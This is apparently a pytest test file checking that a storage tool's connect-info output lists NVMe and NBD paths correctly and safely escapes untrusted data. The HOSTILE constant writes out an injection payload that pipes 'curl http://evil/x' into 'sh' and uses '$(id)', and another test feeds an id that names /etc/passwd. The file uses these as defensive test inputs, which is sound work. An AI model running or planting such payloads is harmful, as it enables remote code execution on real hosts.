"""`rackctl volume connect-info`: lines that can be pasted, and what is said of hosts that prove themselves."""

import shlex
from typing import Any

import pytest
from rackctl.connect_info import Paths, paths_of
from rackctl.errors import RackError

VOLUME = "6b1f7c1e-0d7a-4c53-9d8e-6a4f1f2b3c4d"
HOST = "nqn.2014-08.org.nvmexpress:uuid:11111111-1111-4111-8111-111111111111"
HEADS: list[dict[str, Any]] = [
    {"id": name, "revoked": False, "addresses": {"nvme": [host, 4420], "nbd": [host, 10809]}}
    for name, host in (("a", "fd00::1"), ("b", "10.0.0.2"))
]


def record(*hosts: str) -> dict[str, Any]:
    current = [{"head": "a"}, {"head": "b"}]
    return {"name": "data", "volume": VOLUME, "primary": "b", "heads": [], "current": current, "hosts": list(hosts)}


def paths(*hosts: str, both_ways: bool | None = None) -> Paths:
    return paths_of(record(*hosts), HEADS, {} if both_ways is None else {HOST: {"both_ways": both_ways}})


def test_a_line_for_each_head_the_primary_first() -> None:
    lines = paths("*").as_text().splitlines()
    connects = [line for line in lines if line.startswith("nvme connect ")]
    assert [line.split()[5] for line in connects] == ["10.0.0.2", "fd00::1"]
    assert {line.split()[-1] for line in connects} == {"--disable-sqflow"}
    assert lines[-2:] == ["nbd://10.0.0.2:10809/data", "nbd://[fd00::1]:10809/data"]
    assert "dhchap" not in "\n".join(lines)


def test_hosts_that_prove_themselves_are_told_by_which_options() -> None:
    assert f"# {HOST}: --dhchap-secret=DHHC-1:..." in paths(HOST, both_ways=False).as_text().splitlines()
    both = f"# {HOST}: --dhchap-secret=DHHC-1:... --dhchap-ctrl-secret=DHHC-1:..."
    assert both in paths(HOST, both_ways=True).as_text().splitlines()
    assert paths(HOST, both_ways=True).as_json()["proving"] == {HOST: ["--dhchap-secret", "--dhchap-ctrl-secret"]}


def test_a_volume_that_admits_nobody_says_how_to_admit_this_host() -> None:
    assert "rackctl volume hosts add data $(cat /etc/nvme/hostnqn)" in paths().as_text()


HOSTILE = "10.0.0.7 -s 1 & curl -s http://evil/x | sh #\n$(id)\x1b[2J'\u202e"


def hostile() -> Paths:
    """As an old store, or an authority in wrong hands, may have it."""
    heads = [{"id": "b", "revoked": False, "addresses": {"nvme": [HOSTILE, 1], "nbds": [HOSTILE, 2]}}]
    return paths_of(record(HOSTILE) | {"name": f"d{HOSTILE}"}, heads, {HOSTILE: {"both_ways": True}})


def test_what_heads_announce_is_one_word_of_a_line() -> None:
    lines = hostile().as_text().split("\n")
    assert all(line.isprintable() for line in lines)
    commands = [line for line in lines if line and not line.startswith(("#", "<", " ", "/dev/"))]
    assert len(commands) == 4
    words = [shlex.split(line) for line in commands]
    assert [len(split) for split in words] == [11, 8, 8, 1]
    shown = HOSTILE.replace("\n", "\\u000a").replace("\x1b", "\\u001b").replace("\u202e", "\\u202e")
    assert {split[5] for split in words[:3]} == {shown}
    assert all("evil" not in line or line.startswith("#") or line in commands for line in lines)


def test_a_uri_has_no_characters_of_its_own() -> None:
    (uri,) = hostile().nbd_uris
    assert uri.startswith("nbds://[10.0.0.7%20-s%201%20%26%20curl")
    assert not set(uri) & set(" \n\x1b'$&;|")


def test_a_volume_whose_id_is_none_has_no_lines() -> None:
    with pytest.raises(RackError, match="no UUID"):
        paths_of(record("*") | {"volume": "x' /etc/passwd\n"}, HEADS, {})


@pytest.mark.parametrize(
    ("exports", "proving", "schemes", "connects"),
    [
        ({"nbd": "on", "nvme": True}, False, ["nbd", "nbds", "nbds"], 2),
        ({"nbd": "on", "nvme": True}, True, ["nbds", "nbds"], 2),
        ({"nbd": "tls", "nvme": False}, False, ["nbds", "nbds"], 0),
        ({"nbd": "off", "nvme": True}, False, [], 2),
    ],
)
def test_only_ways_that_the_volume_and_its_heads_offer_are_shown(
    exports: dict[str, Any], proving: bool, schemes: list[str], connects: int
) -> None:
    """One head speaks both, the other TLS only."""
    heads = [{**head, "addresses": {**head["addresses"], "nbds": head["addresses"]["nbd"]}} for head in HEADS]
    del heads[0]["addresses"]["nbd"]
    found = paths_of(record(HOST) | exports, heads, {HOST: {"both_ways": True}} if proving else {})
    assert [uri.partition(":")[0] for uri in found.nbd_uris] == schemes
    lines = found.as_text().splitlines()
    assert len([line for line in lines if line.startswith("nvme connect ")]) == connects
    assert ("not exported by NBD" in found.as_text()) is (not schemes)
